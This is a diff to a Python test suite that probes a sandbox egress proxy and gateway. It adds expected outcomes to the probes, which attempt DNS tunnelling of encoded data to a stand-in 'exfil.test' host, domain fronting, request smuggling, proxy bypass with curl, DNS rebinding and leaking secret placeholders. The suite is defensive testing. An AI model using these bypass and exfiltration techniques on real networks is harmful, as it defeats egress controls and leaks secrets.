@@ -27,14 +27,18 @@ PLACEHOLDER = sys.argv[1]
 RESULTS = []
 
 
-def probe(name):
+def probe(name, expect=""):
+    """Runs the attempt at once. `expect`: a substring the outcome must contain (the outcome
+    docs/threat-model.md states), else the attempt failed some other way than documented."""
     def deco(f):
         t0 = time.time()
         try:
             blocked, outcome = f()
         except OSError as e:  # includes timeouts and TLS errors
             blocked, outcome = True, f"{type(e).__name__}: {e}"
-        RESULTS.append({"name": name, "blocked": bool(blocked), "outcome": str(outcome)[:160],
+        outcome = str(outcome)[:160]
+        RESULTS.append({"name": name, "blocked": bool(blocked), "outcome": outcome,
+                        "as_documented": expect in outcome, "expect": expect,
                         "ms": int((time.time() - t0) * 1000)})
         return f
     return deco
@@ -174,45 +178,47 @@ assert statuses(exchange(GOOD, 443, http("allowed.test", "/control"), tls=CTX,
                          sni="allowed.test")) == [200]
 
 
-@probe("gateway TCP port 22")
+@probe("gateway TCP port 22", expect="closed b''")
 def _():
     r = exchange(GW, 22, b"SSH-2.0-probe\r\n")
     return not r.startswith(b"SSH"), f"closed {r[:30]!r}"
 
 
-@probe("gateway TCP port 53 (DNS over TCP to the resolver)")
+@probe("gateway TCP port 53 (DNS over TCP to the resolver)", expect="closed b''")
 def _():
     q = dns_query("allowed.test")
     r = exchange(GW, 53, struct.pack("!H", len(q)) + q)
     return dns_answer(r[2:]) is None, f"closed {r[:20]!r}"
 
 
-@probe("gateway UDP port 123")
+@probe("gateway UDP port 123", expect="timed out")
 def _():
     r = udp(GW, 123, b"\x1b" + b"\x00" * 47)
     return False, f"answered {r[:20]!r}"
 
 
-@probe("UDP DNS to the outside server for a name not on the list")
+@probe("UDP DNS to the outside server for a name not on the list", expect="(3, 0)")
 def _():
     a = dns_answer(udp(DNS, 53, dns_query("other.test")))
     return a is None or a[0] != 0 or a[1] == 0, f"rcode/answers {a}"
 
 
-@probe("DNS tunnelling: TXT query carrying data under a name not on the list")
+@probe("DNS tunnelling: TXT query carrying data under a name not on the list",
+       expect="(3, 0)")
 def _():
     a = dns_answer(udp(GW, 53, dns_query("c2VjcmV0LWRhdGE.exfil.test", 16)))
     return a is None or a[0] != 0 or a[1] == 0, f"rcode/answers {a}"
 
 
-@probe("DNS over TCP to the outside server")
+@probe("DNS over TCP to the outside server", expect="closed b''")
 def _():
     q = dns_query("other.test")
     r = exchange(DNS, 53, struct.pack("!H", len(q)) + q)
     return dns_answer(r[2:]) is None, f"closed {r[:20]!r}"
 
 
-@probe("DNS rebinding: an allowed name that resolves to a private address")
+@probe("DNS rebinding: an allowed name that resolves to a private address",
+       expect="[403] Blocked by policy: destination 10.99.0.2 is in a blocked range (private)")
 def _():
     ip = socket.gethostbyname("private.test")
     r = exchange(ip, 443, http("private.test"), tls=CTX, sni="private.test")
@@ -220,34 +226,38 @@ def _():
     return ok, f"{ip}: {what}"
 
 
-@probe("SNI of an allowed host, Host header of another (domain fronting)")
+@probe("SNI of an allowed host, Host header of another (domain fronting)",
+       expect="[421] Host other.test does not match")
 def _():
     return refused(exchange(GOOD, 443, http("other.test"), tls=CTX, sni="allowed.test"))
 
 
-@probe("SNI of a host not on the list, Host header of an allowed one")
+@probe("SNI of a host not on the list, Host header of an allowed one",
+       expect="[403] Blocked by policy: host not in allowlist")
 def _():
     return refused(exchange(GOOD, 443, http("allowed.test"), tls=INSECURE, sni="other.test"))
 
 
-@probe("TLS without SNI to an allowed host's IP")
+@probe("TLS without SNI to an allowed host's IP", expect="[403]")
 def _():
     return refused(exchange(GOOD, 443, http(GOOD), tls=INSECURE, sni=None))
 
 
-@probe("plain HTTP with the Host of a host not on the list")
+@probe("plain HTTP with the Host of a host not on the list",
+       expect="[403] Blocked by policy: host not in allowlist")
 def _():
     return refused(exchange(GOOD, 80, http("other.test")))
 
 
-@probe("absolute-form request target naming another host")
+@probe("absolute-form request target naming another host",
+       expect="[400] request target names host other.test")
 def _():
     r = exchange(GOOD, 80, b"GET http://other.test/abs HTTP/1.1\r\nHost: allowed.test\r\n"
                            b"Connection: close\r\n\r\n")
     return refused(r)
 
 
-@probe("CONNECT to a host not on the list")
+@probe("CONNECT to a host not on the list", expect="[403]")
 def _():
     return refused(exchange(GOOD, 80, b"CONNECT other.test:443 HTTP/1.1\r\n"
                                       b"Host: other.test:443\r\n\r\n"))
@@ -261,27 +271,29 @@ def _():
     return codes[1:2] != [200] and len([c for c in codes if c == 200]) <= 1, codes
 
 
-@probe("two Host headers, allowed one first")
+@probe("two Host headers, allowed one first",
+       expect="[400] more than one Host header")
 def _():
     return refused(exchange(GOOD, 80, http("allowed.test", extra=b"Host: other.test\r\n")))
 
 
-@probe("userinfo in the Host header (allowed.test@other.test)")
+@probe("userinfo in the Host header (allowed.test@other.test)", expect="[403]")
 def _():
     return refused(exchange(GOOD, 80, http("allowed.test@other.test")))
 
 
-@probe("Host header naming the loopback address")
+@probe("Host header naming the loopback address", expect="[403]")
 def _():
     return refused(exchange(GOOD, 80, http("127.0.0.1")))
 
 
-@probe("Host header naming localhost with a port")
+@probe("Host header naming localhost with a port", expect="[403]")
 def _():
     return refused(exchange(GOOD, 80, http("localhost:8080")))
 
 
-@probe("request smuggling: Content-Length and Transfer-Encoding with a hidden request")
+@probe("request smuggling: Content-Length and Transfer-Encoding with a hidden request",
+       expect="[400]")
 def _():
     hidden = http("other.test", "/smuggled")
     body = b"0\r\n\r\n" + hidden
@@ -292,7 +304,8 @@ def _():
     return 200 not in codes[1:], codes  # judged by the server log as well
 
 
-@probe("proxy variables unset, curl --noproxy to a host not on the list")
+@probe("proxy variables unset, curl --noproxy to a host not on the list",
+       expect="http 403")
 def _():
     env = {k: v for k, v in os.environ.items() if "proxy" not in k.lower()}
     p = subprocess.run(["curl", "-sS", "-m", "8", "--noproxy", "*", "-o", "/dev/null", "-w",
@@ -301,13 +314,15 @@ def _():
     return p.stdout.strip() != "200", f"http {p.stdout.strip()} {p.stderr.strip()[:60]}"
 
 
-@probe("secret placeholder over plain HTTP to an allowed host that is not the secret's")
+@probe("secret placeholder over plain HTTP to an allowed host that is not the secret's",
+       expect="[403] Blocked by policy: secret placeholder sent to unauthorized host")
 def _():
     return refused(exchange(GOOD, 80, http("a.wild.test", "/plainleak",
                                            f"X-Key: {PLACEHOLDER}\r\n".encode())))
 
 
-@probe("secret placeholder in the URL path of the secret's host (never substituted)")
+@probe("secret placeholder in the URL path of the secret's host (never substituted)",
+       expect="[200]")
 def _():
     r = exchange(GOOD, 443, http("allowed.test", f"/pathleak/{PLACEHOLDER}"), tls=CTX,
                  sni="allowed.test")
@@ -352,25 +367,25 @@ def _():
     return raw_send([(ip_header(132, OTHER, len(s)) + s, OTHER)]), "sent (judged by the capture)"
 
 
-@probe("ICMP echo to the gateway")
+@probe("ICMP echo to the gateway", expect="no reply")
 def _():
     answered = icmp_echo(GW)
     return not answered, "answered" if answered else "no reply"
 
 
-@probe("ICMP timestamp request to an outside host")
+@probe("ICMP timestamp request to an outside host", expect="no reply")
 def _():
     answered = icmp_echo(OTHER, icmp_type=13)
     return not answered, "answered" if answered else "no reply"
 
 
-@probe("IPv6 UDP to a global address")
+@probe("IPv6 UDP to a global address", expect="Network is unreachable")
 def _():
     r = udp("2001:db8::53", 53, dns_query("allowed.test"), family=socket.AF_INET6)
     return False, f"answered {r[:20]!r}"
 
 
-@probe("IPv6 link-local: all-nodes multicast echo on eth0")
+@probe("IPv6 link-local: all-nodes multicast echo on eth0", expect="no foreign reply")
 def _():
     mine = set()
     for line in open("/proc/net/if_inet6"):
@@ -404,7 +419,8 @@ def _():
     return raw_send([(h + tcp, PRIV)]), "sent (judged by the capture)"
 
 
-@probe("malformed DNS packets to the resolver (then a valid query still works)")
+@probe("malformed DNS packets to the resolver (then a valid query still works)",
+       expect="(0, 1)")
 def _():
     for junk in (b"\xff" * 12, os.urandom(300), dns_query("a" * 63 + "." + "b" * 63)[:40],
                  b"\x00\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\xc0\x0c\x00\x01\x00\x01"):
@@ -415,7 +431,8 @@ def _():
     return a is not None and a[0] == 0 and a[1] > 0, f"resolver afterwards: {a}"
 
 
-@probe("oversized HTTP request head (then the proxy still serves)")
+@probe("oversized HTTP request head (then the proxy still serves)",
+       expect="[431] then [200]")
 def _():
     r = exchange(GOOD, 80, http("allowed.test", extra=b"X-Big: " + b"A" * 200000 + b"\r\n"))
     after = statuses(exchange(GOOD, 80, http("allowed.test", "/after-big")))
